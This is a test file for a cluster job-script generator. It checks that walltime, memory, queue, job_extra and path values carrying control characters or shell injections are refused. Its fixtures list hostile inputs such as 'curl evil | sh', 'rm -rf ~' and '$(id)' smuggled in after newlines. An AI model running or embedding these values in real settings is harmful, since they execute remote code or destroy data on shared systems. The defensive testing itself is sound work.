"""Every value that reaches a PBS/SLURM job script is checked where it comes in: a newline
(or any other control character) or a shape its directive does not take is refused with one
`error:` line naming the flag, or the experiment file and the key, before a script is made."""
import pytest

from cgphw.campaign.cluster import ClusterSettings, job_script
from cgphw.errors import UserError

from campaign_fixtures import experiment_file

BASE = """[task]
selector = "core-ring"
[search]
grid = "5x5"
generations = 10
[cluster]
kind = "slurm"
walltime = "01:00:00"
memory = "2GB"
"""
# key -> TOML value of a hostile or malformed setting
HOSTILE_IN_FILE = {
    "walltime": '"01:00:00\\necho pwned"',
    "memory": '"2GB\\nid"',
    "queue": '"short\\ncurl evil | sh"',
    "account": '"OPEN-1; rm -rf ~"',
    "interface": '"lo\\r"',
    "job_extra": '["--qos=high\\nrm -rf ~"]',
    "kind": '"tcp://"',
}
HOSTILE_FLAGS = [
    ("--walltime", "01:00:00\necho pwned"),
    ("--walltime", "01:00:00 && id"),
    ("--walltime", "one hour"),
    ("--memory", "lots"),
    ("--memory", "8GB\x00"),
    ("--memory", "0MB"),
    ("--queue", "q\nid"),
    ("--queue", "$(id)"),
    ("--account", "a`id`"),
    ("--interface", "lo\nid"),
    ("--job-extra", "--qos=high\nrm -rf ~"),
    ("--job-extra", "--comment=$(id)"),
    ("--job-extra", "#SBATCH --exclusive"),
    ("--job-extra", "--x 'quoted'"),
    ("--job-extra", "--mail-user=a@b\u2028id"),
    ("--cluster", "sge"),
    ("--cluster", "tcp://"),
    ("--cluster", "tcp://host:notaport"),
    ("--cluster", "tcp://host:70000"),
    ("--cluster", "tcp://host:8786\nid"),
]


def rendered(cli, *args) -> str:
    code, out, err = cli(*args)
    assert code == 0, err
    return out


@pytest.mark.parametrize("key", HOSTILE_IN_FILE)
def test_a_hostile_value_in_the_experiment_file_is_refused_naming_the_file_and_key(tmp_path, cli, key):
    body = "\n".join(line for line in BASE.splitlines() if not line.startswith(f"{key} ="))
    path = experiment_file(tmp_path / "shared.toml", body + f"\n{key} = {HOSTILE_IN_FILE[key]}\n")
    code, out, err = cli("run", str(path), "--job-script")
    assert code == 2 and out == ""
    assert err.startswith(f"error: {path}: cluster.{key}: ") and err.count("\n") == 1, err


@pytest.mark.parametrize("flag,value", HOSTILE_FLAGS)
def test_a_hostile_flag_is_refused_before_any_job_script_is_made(tmp_path, cli, flag, value):
    path = experiment_file(tmp_path / "e.toml", BASE)
    code, out, err = cli("run", str(path), "--job-script", f"{flag}={value}")
    assert code == 2 and out == ""
    assert err.startswith(f"error: {flag}: ") and err.count("\n") == 1, err
    assert "pwned" not in out and "rm -rf" not in out


def test_control_characters_are_named_as_the_reason(tmp_path, cli):
    path = experiment_file(tmp_path / "e.toml", BASE)
    _, _, err = cli("run", str(path), "--job-script", "--walltime", "01:00:00\necho pwned")
    assert "control character" in err and "'01:00:00\\necho pwned'" in err


def test_the_python_api_checks_the_same_values():
    with pytest.raises(UserError, match=r"^cluster\.walltime: holds a control character"):
        ClusterSettings(kind="slurm", walltime="1:00:00\nid", memory="1GB")
    with pytest.raises(UserError, match=r"^cluster\.job_extra: must be one sbatch/qsub option"):
        ClusterSettings(kind="slurm", walltime="1:00:00", memory="1GB", job_extra=("--a; id",))
    with pytest.raises(UserError, match=r"^cluster\.cores: must be a whole number from 1 to 1024"):
        ClusterSettings(kind="slurm", cores=0)
    for memory in ("16gb", "8 GB", "1.5GiB", "500M"):  # what dask's parse_bytes reads, any case
        assert ClusterSettings(memory=memory).memory == memory
    with pytest.raises(UserError, match=r"^exp\.toml: cluster\.memory: must be an amount of memory"):
        ClusterSettings.from_table({"kind": "pbs", "memory": "lots"}, "exp.toml")


def test_good_values_of_every_shape_still_render(tmp_path, cli):
    path = experiment_file(tmp_path / "e.toml", BASE + 'job_extra = ["--gres=gpu:1", "-o /scratch/me/%j.out"]\n'
                                                      'queue = "qcpu"\naccount = "OPEN-33.3"\n')
    text = rendered(cli, "run", str(path), "--job-script", "--walltime", "2-00:00:00", "--memory", "500MB",
                    "--job-extra=--mail-user=me@example.org", "--job-extra", "--exclusive")
    for line in ("#SBATCH -t 2-00:00:00", "#SBATCH --mem=477M", "#SBATCH -p qcpu", "#SBATCH -A OPEN-33.3",
                 "#SBATCH --mail-user=me@example.org", "#SBATCH --exclusive"):
        assert line in text.splitlines(), line
    # the flag's --job-extra replaces the file's list (flags win, as for every key)
    assert "--gres=gpu:1" not in text
    text = job_script(ClusterSettings(kind="pbs", walltime="90:00", memory="8 GB",
                                      job_extra=("-l select=1:ncpus=8:mem=7GB", "-m abe", "-j oe")))
    for line in ("#PBS -l walltime=90:00", "#PBS -l select=1:ncpus=8:mem=7GB", "#PBS -m abe", "#PBS -j oe"):
        assert line in text.splitlines(), line


def test_pbs_refuses_the_slurm_only_day_form_of_a_wall_time():
    with pytest.raises(UserError, match="PBS takes"):
        job_script(ClusterSettings(kind="pbs", walltime="1-00:00:00", memory="1GB"))


def test_every_line_of_a_rendered_script_is_a_directive_an_export_or_the_worker(tmp_path, cli):
    """Nothing a user wrote became a command of its own: the shape of the whole script."""
    path = experiment_file(tmp_path / "e.toml", BASE + 'job_extra = ["--qos=high", "-l nodes=1:ppn=2"]\n')
    lines = [line for line in rendered(cli, "run", str(path), "--job-script").splitlines() if line]
    assert lines[0] == "#!/usr/bin/env bash"
    commands = [line for line in lines[1:] if not line.startswith("#SBATCH ")]
    assert len(commands) == 2 and commands[0].startswith("export OMP_NUM_THREADS=1")
    assert " -m distributed.cli.dask_worker " in commands[1]


def test_a_batch_campaign_folder_s_path_must_be_plain_it_goes_into_the_job_script(tmp_path):
    from cgphw.campaign.cluster_checks import check_log_dir

    check_log_dir(tmp_path / "campaign" / "dask-logs")
    for folder in ("/tmp/a\nid/dask-logs", "/tmp/my campaign/dask-logs", "/tmp/$(id)/dask-logs", "/tmp/%j/logs"):
        with pytest.raises(UserError, match=r"^--out .*goes into the job script"):
            check_log_dir(tmp_path.joinpath(folder))
